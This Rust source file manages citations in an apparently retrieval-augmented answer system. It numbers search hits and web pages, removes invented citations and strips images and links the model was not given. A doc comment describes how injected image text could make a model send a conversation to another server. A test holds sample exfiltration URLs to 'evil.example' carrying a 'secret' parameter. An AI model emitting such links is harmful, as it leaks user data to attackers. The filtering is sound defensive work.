//! What an answer may rest on: numbered items and web pages, and the citations that name them.
//!
//! A number means the same item for as long as these sources live; in a conversation they are
//! taken up again with every turn.

use std::collections::BTreeSet;
use std::sync::{LazyLock, Mutex, MutexGuard, PoisonError};

use regex::Regex;
use serde::{Deserialize, Serialize};
use utoipa::ToSchema;

use super::{Hit, ScoreType};
use crate::domain::ItemId;
use crate::providers::tavily::WebPage;

/// An item with its number.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, ToSchema)]
pub struct Citation {
    /// The `n` of `[Item n]`.
    pub number: usize,
    /// The item.
    pub item_id: ItemId,
    /// Its headline.
    pub headline: Option<String>,
}

/// A web page with its number.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, ToSchema)]
pub struct WebCitation {
    /// The `n` of `[Web n]`.
    pub number: usize,
    /// Its title.
    pub title: String,
    /// Where it is.
    pub url: String,
}

/// A hit and how it came to be one.
#[derive(Clone, Debug, PartialEq)]
pub struct Seen {
    /// Its number.
    pub number: usize,
    /// The hit.
    pub hit: Hit,
    /// How it was measured.
    pub score_type: ScoreType,
    /// Its best place in any search, 1 for the first.
    pub rank: usize,
    /// The last search that found it, 1 for the first.
    pub search: usize,
}

/// The sources of one piece of work. Tools add to it side by side.
#[derive(Debug, Default)]
pub struct Sources(Mutex<Inner>);

#[derive(Debug, Default)]
struct Inner {
    /// From earlier turns.
    known: Vec<Citation>,
    seen: Vec<Seen>,
    web: Vec<(usize, WebPage)>,
    searches: usize,
    degraded: Option<&'static str>,
    /// Links that stand in what the model was given.
    links: BTreeSet<String>,
}

impl Sources {
    /// Goes on with the numbers that a conversation has given before.
    pub fn continued(known: Vec<Citation>, web: Vec<WebCitation>) -> Self {
        let page = |citation: WebCitation| {
            let page = WebPage {
                title: citation.title,
                url: citation.url,
                content: String::new(),
                score: 0.0,
            };
            (citation.number, page)
        };
        Self(Mutex::new(Inner {
            known,
            web: web.into_iter().map(page).collect(),
            ..Inner::default()
        }))
    }

    /// Adds what a search found; gives the number of each hit.
    pub fn add(
        &self,
        hits: &[Hit],
        score_type: ScoreType,
        degraded: Option<&'static str>,
    ) -> Vec<usize> {
        let mut inner = self.lock();
        inner.searches += 1;
        inner.degraded = inner.degraded.or(degraded);
        let places = hits.iter().enumerate();
        places
            .map(|(at, hit)| inner.number(hit, score_type, at + 1))
            .collect()
    }

    /// Adds pages; gives the number of each.
    pub fn add_web(&self, pages: &[WebPage]) -> Vec<usize> {
        let mut inner = self.lock();
        pages.iter().map(|page| inner.web_number(page)).collect()
    }

    /// Notes a text that the model was given: the links in it may stand in an answer.
    pub fn note(&self, text: &str) {
        let links = LINK
            .find_iter(text)
            .map(|link| trimmed(link.as_str()).to_owned());
        self.lock().links.extend(links);
    }

    /// What was found, in the order of the numbers.
    pub fn seen(&self) -> Vec<Seen> {
        self.lock().seen.clone()
    }

    /// How many items were found.
    pub fn found(&self) -> usize {
        self.lock().seen.len()
    }

    /// Whether a search worked only in part.
    pub fn degraded(&self) -> Option<&'static str> {
        self.lock().degraded
    }

    /// The text of a model as it may be shown, and what it cites. Citations of what is not there
    /// are taken out, and so are images and links that the model was not given: with those, text
    /// in an image could make it carry a conversation to somebody else's server.
    pub fn resolve(&self, text: &str) -> Cited {
        let inner = self.lock();
        let text = IMAGE.replace_all(text, "$1");
        let text = LINK.replace_all(&text, |found: &regex::Captures<'_>| {
            let link = trimmed(&found[0]);
            match inner.links.contains(link) || inner.web.iter().any(|(_, page)| page.url == link) {
                true => found[0].to_owned(),
                false => format!("(link removed){}", &found[0][link.len()..]),
            }
        });
        let (mut items, mut web) = (BTreeSet::new(), BTreeSet::new());
        let text = MARK.replace_all(&text, |found: &regex::Captures<'_>| {
            let mut is_web = false;
            let mut known = Vec::new();
            for named in NUMBER.captures_iter(&found[0]) {
                // A kind holds for the numbers that follow it: `[Items 1, 2]`.
                if let Some(kind) = named.get(1) {
                    is_web = kind.as_str().eq_ignore_ascii_case("web");
                }
                let Ok(number) = named[2].parse() else {
                    continue;
                };
                if is_web && inner.web_citation(number).is_some() {
                    web.insert(number);
                    known.push(format!("[Web {number}]"));
                } else if !is_web && inner.citation(number).is_some() {
                    items.insert(number);
                    known.push(format!("[Item {number}]"));
                }
            }
            known.join(" ")
        });
        Cited {
            text: text.trim().to_owned(),
            items: items
                .into_iter()
                .filter_map(|n| inner.citation(n))
                .collect(),
            web: web
                .into_iter()
                .filter_map(|n| inner.web_citation(n))
                .collect(),
        }
    }

    /// All items found now, as they are written down for the turns that follow.
    pub fn numbered(&self) -> Vec<Citation> {
        let inner = self.lock();
        inner.seen.iter().map(citation).collect()
    }

    fn lock(&self) -> MutexGuard<'_, Inner> {
        // A panic elsewhere leaves the lists whole.
        self.0.lock().unwrap_or_else(PoisonError::into_inner)
    }
}

/// An answer with its citations resolved.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Cited {
    /// The text.
    pub text: String,
    /// The items it names, by number.
    pub items: Vec<Citation>,
    /// The pages it names, by number.
    pub web: Vec<WebCitation>,
}

impl Cited {
    /// How well an answer is founded: the share of its sentences that name a source.
    pub fn confidence(&self) -> f64 {
        let sentences: Vec<&str> = SENTENCE
            .find_iter(&self.text)
            .map(|sentence| sentence.as_str())
            .filter(|sentence| sentence.split_whitespace().count() > 2)
            .collect();
        let founded = sentences.iter().filter(|sentence| MARK.is_match(sentence));
        let share = founded.count() as f64 / sentences.len().max(1) as f64;
        (share * 100.0).round() / 100.0
    }
}

impl Inner {
    fn number(&mut self, hit: &Hit, score_type: ScoreType, rank: usize) -> usize {
        let search = self.searches;
        if let Some(seen) = self
            .seen
            .iter_mut()
            .find(|seen| seen.hit.item_id == hit.item_id)
        {
            seen.rank = seen.rank.min(rank);
            seen.search = search;
            return seen.number;
        }
        let known = self.known.iter().find(|known| known.item_id == hit.item_id);
        let number = known.map_or_else(|| self.next(), |known| known.number);
        self.seen.push(Seen {
            number,
            hit: hit.clone(),
            score_type,
            rank,
            search,
        });
        number
    }

    fn next(&self) -> usize {
        let known = self.known.iter().map(|known| known.number);
        let seen = self.seen.iter().map(|seen| seen.number);
        known.chain(seen).max().unwrap_or(0) + 1
    }

    fn web_number(&mut self, page: &WebPage) -> usize {
        if let Some((number, _)) = self.web.iter().find(|(_, known)| known.url == page.url) {
            return *number;
        }
        let number = self
            .web
            .iter()
            .map(|(number, _)| *number)
            .max()
            .unwrap_or(0)
            + 1;
        self.web.push((number, page.clone()));
        number
    }

    fn citation(&self, number: usize) -> Option<Citation> {
        let seen = self.seen.iter().find(|seen| seen.number == number);
        let known = self.known.iter().find(|known| known.number == number);
        seen.map(citation).or_else(|| known.cloned())
    }

    fn web_citation(&self, number: usize) -> Option<WebCitation> {
        let (number, page) = self.web.iter().find(|(known, _)| *known == number)?;
        Some(WebCitation {
            number: *number,
            title: page.title.clone(),
            url: page.url.clone(),
        })
    }
}

fn citation(seen: &Seen) -> Citation {
    Citation {
        number: seen.number,
        item_id: seen.hit.item_id.clone(),
        headline: seen.hit.headline.clone(),
    }
}

/// A link without the signs of the sentence around it.
fn trimmed(link: &str) -> &str {
    link.trim_end_matches(['.', ',', ';', ':', '!', '?', '*', '_'])
}

/// `[Item 3]`, `[Items 1, 2]`, `[Item 1, Item 2]`, and the same of `Web`.
static MARK: LazyLock<Regex> =
    LazyLock::new(|| regex(r"(?i)\[(?:item|web)s?(?:(?:[\s,&]|and|items?|web)*\d{1,6})+\]"));
static NUMBER: LazyLock<Regex> = LazyLock::new(|| regex(r"(?i)(item|web)?s?\s*(\d+)"));
static LINK: LazyLock<Regex> =
    LazyLock::new(|| regex(r#"(?i)\b[a-z][a-z0-9+.-]{1,20}://[^\s<>"'`)\]]+"#));
static IMAGE: LazyLock<Regex> = LazyLock::new(|| regex(r"!\[([^\]]*)\]\([^)]*\)"));
static SENTENCE: LazyLock<Regex> =
    LazyLock::new(|| regex(r"[^.!?\n]+(?:[.!?]+|\n|$)(?:\s*\[[^\]]*\]\.?)*"));

#[allow(
    clippy::expect_used,
    reason = "the patterns above are constants, and tested"
)]
fn regex(pattern: &str) -> Regex {
    Regex::new(pattern).expect("a pattern of this file")
}

#[cfg(test)]
mod tests {
    use serde_json::Value;

    use super::{Sources, WebCitation};
    use crate::retrieval::{Hit, ScoreType};

    fn hit(id: &str) -> Hit {
        Hit {
            item_id: id.parse().unwrap_or_else(|_| panic!("{id}")),
            score: 1.0,
            category: None,
            headline: Some(format!("about {id}")),
            summary: None,
            thumbnail_path: None,
            metadata: Value::Null,
        }
    }

    fn numbers(sources: &Sources, text: &str) -> (String, Vec<usize>) {
        let cited = sources.resolve(text);
        let numbers = cited.items.iter().map(|citation| citation.number);
        (cited.text.clone(), numbers.collect())
    }

    #[test]
    fn citations_are_resolved_however_they_are_written_and_invented_ones_go() {
        let sources = Sources::default();
        assert_eq!(
            sources.add(&[hit("a"), hit("b")], ScoreType::Bm25, None),
            [1, 2]
        );
        assert_eq!(
            sources.add(&[hit("c"), hit("a")], ScoreType::Bm25, None),
            [3, 1]
        );
        for (text, expected, items) in [
            ("Boats [Item 1].", "Boats [Item 1].", vec![1]),
            (
                "[items 1, 2 and 3]",
                "[Item 1] [Item 2] [Item 3]",
                vec![1, 2, 3],
            ),
            ("[Item 1, Item 9]", "[Item 1]", vec![1]),
            ("[Item 2, Web 2]", "[Item 2]", vec![2]),
            ("Invented [Item 99].", "Invented .", vec![]),
            ("No [thing] at all", "No [thing] at all", vec![]),
        ] {
            assert_eq!(
                numbers(&sources, text),
                (expected.to_owned(), items),
                "{text}"
            );
        }
    }

    #[test]
    fn a_number_means_the_same_item_in_every_turn() {
        let first = Sources::default();
        first.add(&[hit("a"), hit("b")], ScoreType::Bm25, None);
        let second = Sources::continued(first.numbered(), Vec::new());
        assert_eq!(
            second.add(&[hit("c"), hit("b")], ScoreType::Bm25, None),
            [3, 2]
        );
        assert_eq!(numbers(&second, "[Item 1] and [Item 3]").1, [1, 3]);
    }

    #[test]
    fn links_that_were_not_given_are_taken_out() {
        let page = WebCitation {
            number: 1,
            title: "T".to_owned(),
            url: "https://example.org/a".to_owned(),
        };
        let sources = Sources::continued(Vec::new(), vec![page]);
        sources.note("a poster that says http://poster.example/x, and more");
        let text = "See https://example.org/a, http://poster.example/x and \
                    ![p](https://evil.example/?secret=1) or https://evil.example/?secret=2.";
        let shown = sources.resolve(text).text;
        assert!(
            shown.contains("https://example.org/a,") && shown.contains("http://poster.example/x")
        );
        assert!(!shown.contains("evil.example"), "{shown}");
        assert_eq!(sources.resolve("said there [Web 1] [Web 2]").web.len(), 1);
    }

    #[test]
    fn confidence_is_the_share_of_sentences_that_name_a_source() {
        let sources = Sources::default();
        sources.add(&[hit("a")], ScoreType::Bm25, None);
        for (text, confidence) in [
            ("A boat on a lake [Item 1].", 1.0),
            ("A boat on a lake. [Item 1]", 1.0),
            ("A boat on a lake [Item 1]. And much that nobody said.", 0.5),
            ("All of this is invented.", 0.0),
            ("", 0.0),
        ] {
            let found = sources.resolve(text).confidence();
            assert!((found - confidence).abs() < 0.01, "{text}: {found}");
        }
    }
}
